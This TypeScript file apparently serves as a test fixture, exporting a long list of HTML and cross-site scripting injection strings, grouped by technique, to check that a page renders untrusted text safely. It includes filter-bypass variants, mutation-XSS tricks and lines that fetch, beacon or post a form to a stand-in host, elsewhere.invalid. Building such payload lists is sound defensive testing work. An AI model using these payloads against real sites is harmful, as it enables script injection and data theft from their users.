/** A host that no name server knows. */
const ELSEWHERE = 'https://elsewhere.invalid';

/** Strings that would run, load or change something on a page that took them for HTML, by form, each with a purpose. */
export const INJECTIONS: readonly string[] = [
  // Scripts.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  `<script src=${ELSEWHERE}/script.js></script>`,
  `<script type=module>import '${ELSEWHERE}/module.js'</script>`,
  '<script/x>alert(1)</script/y>',
  '<script\n>alert(1)\n</script\n>',
  '<script>/*',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script><!--<script></script>alert(1)</script>',
  "<script>document.title='changed';document.querySelector('h1').textContent='changed'</script>",
  `<script>fetch('${ELSEWHERE}/fetch')</script>`,
  `<script>new Image().src='${ELSEWHERE}/beacon'</script>`,
  "<script>location='/nowhere'</script>",

  // Escapes from the heading, the document, and elements that the page does not use.
  '</h1><script>alert(1)</script><h1>',
  '</h1></main></body></html><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea></noscript></template></select></svg></math><script>alert(1)</script>',
  '</h1><h1>Another heading',
  '</main><main>',
  '<html onclick=alert(1)><body onload=alert(1) class=changed>',
  '<head><title>changed</title></head>',
  '<frameset onload=alert(1)>',

  // Images and media.
  '<img src=x onerror=alert(1)>',
  `<img src=${ELSEWHERE}/pixel.gif>`,
  `<img srcset="${ELSEWHERE}/a.png 1x, ${ELSEWHERE}/b.png 2x">`,
  '<img src=x onerror="&#97;lert(1)"',
  '<img/src=x/onerror=alert(1)//',
  '<img src=`x` onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  `<picture><source srcset=${ELSEWHERE}/a.webp><img></picture>`,
  '<video><source onerror=alert(1)></video>',
  `<video poster=${ELSEWHERE}/poster.png src=${ELSEWHERE}/film.mp4 autoplay></video>`,
  '<audio src=x onerror=alert(1)>',
  `<track src=${ELSEWHERE}/captions.vtt>`,
  '<input type=image src=x onerror=alert(1)>',
  '<body background=//elsewhere.invalid/paper.png>',

  // Frames, plug-ins and other documents.
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<iframe src=${ELSEWHERE}/frame></iframe>`,
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  '<object data=javascript:alert(1)></object>',
  `<object data=${ELSEWHERE}/object></object>`,
  `<embed src=${ELSEWHERE}/embed>`,
  '<portal src=//elsewhere.invalid/></portal><fencedframe></fencedframe>',

  // Style sheets, links and elements that control the document.
  '<style>h1{display:none}</style>',
  `<style>@import url(${ELSEWHERE}/style.css);</style>`,
  `<style>*{background:url(${ELSEWHERE}/paper.png)}`,
  `<link rel=stylesheet href=${ELSEWHERE}/style.css>`,
  `<link rel=preload as=image href=${ELSEWHERE}/preload.png>`,
  '<link rel=dns-prefetch href=//elsewhere.invalid><link rel=preconnect href=//elsewhere.invalid>',
  `<p style="background:url(${ELSEWHERE}/paragraph.png)">`,
  `<base href=${ELSEWHERE}/><a href=x>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/refresh">`,
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<meta http-equiv=Content-Security-Policy content="default-src *">',

  // Forms and links, which wait for a click.
  `<form action=${ELSEWHERE}/form><input name=token autofocus onfocus=alert(1)><button>OK</button></form>`,
  '<button form=x formaction=javascript:alert(1)>OK</button>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)>',
  '<isindex type=image src=x onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<a href=javascript:alert(1)>click</a>',
  '<a href="java\tscript:alert(1)" ping=//elsewhere.invalid/ping>click</a>',
  'javascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',

  // Elements that act without a click.
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open onclose=alert(1)><form method=dialog><button>OK',
  '<x onpointerrawupdate=alert(1) tabindex=0 autofocus onfocus=alert(1)>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)></b>',
  '<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>',

  // Foreign content, templates, and text that changes when it is serialised and parsed again.
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><use href="${ELSEWHERE}/sprite.svg#x"/><image href=${ELSEWHERE}/image.png /></svg>`,
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href=javascript:alert(1)>click</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<h1><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>',
  '<table><tr><td><h1>x<script>alert(1)</script>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',

  // Openings that swallow the rest of the document.
  '<plaintext>',
  '<xmp>',
  '<textarea>',
  '<title>',
  '<style>',
  '<noembed><noframes>',
  '<!--',
  '<!',
  '<?',
  '<![CDATA[',
  '<a href="',
  "<img src='x",
  '<b',

  // Comments that end early.
  '--><script>alert(1)</script><!--',
  '--!><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![endif]--><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',

  // Escapes from an attribute.
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1)',
  ' style=position:fixed;inset:0 onpointerover=alert(1) ',

  // Escapes from a script.
  "';alert(1)//",
  '\\";alert(1)//',
  `\${alert(1)}`,
  '{{constructor.constructor("alert(1)")()}}',
  '</script><script>alert(1)</script>',

  // Entities: decoded once too often, or escaped and then decoded.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',

  // Characters between the parts of a tag, and ones that a careless conversion turns into angle brackets.
  '<img\rsrc=x\ronerror=alert(1)>',
  '<img\fsrc=x\fonerror=alert(1)>',
  '<\u200bscript>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u2039img src=x onerror=alert(1)\u203a',
  '\u{e003c}script\u{e003e}alert(1)',
  '+ADw-img src=x onerror=alert(1)+AD4-',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
];

/** Four in a row, for a view that sets its text at once, whatever is in it. */
export const INJECTION_ROWS: readonly string[] = Array.from({ length: Math.ceil(INJECTIONS.length / 4) }, (_, row) =>
  INJECTIONS.slice(4 * row, 4 * row + 4).join(''),
);
